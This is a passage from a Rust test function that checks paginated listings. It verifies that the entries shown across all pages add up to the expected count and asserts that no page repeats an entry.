                    pair[1].first()
                ));
            }
        }
        let listed: usize = pages.iter().map(Vec::len).sum();
        if listed != expected {
            problems.push(format!(
                "{label}: {expected} entries matched when page 1 was shown, but the {} pages \
                 list {listed}",
                pages.len()
            ));
        }
    }
    assert!(
        problems.is_empty(),
        "paging repeats entries:\n{}",
        problems.join("\n")
    );
}
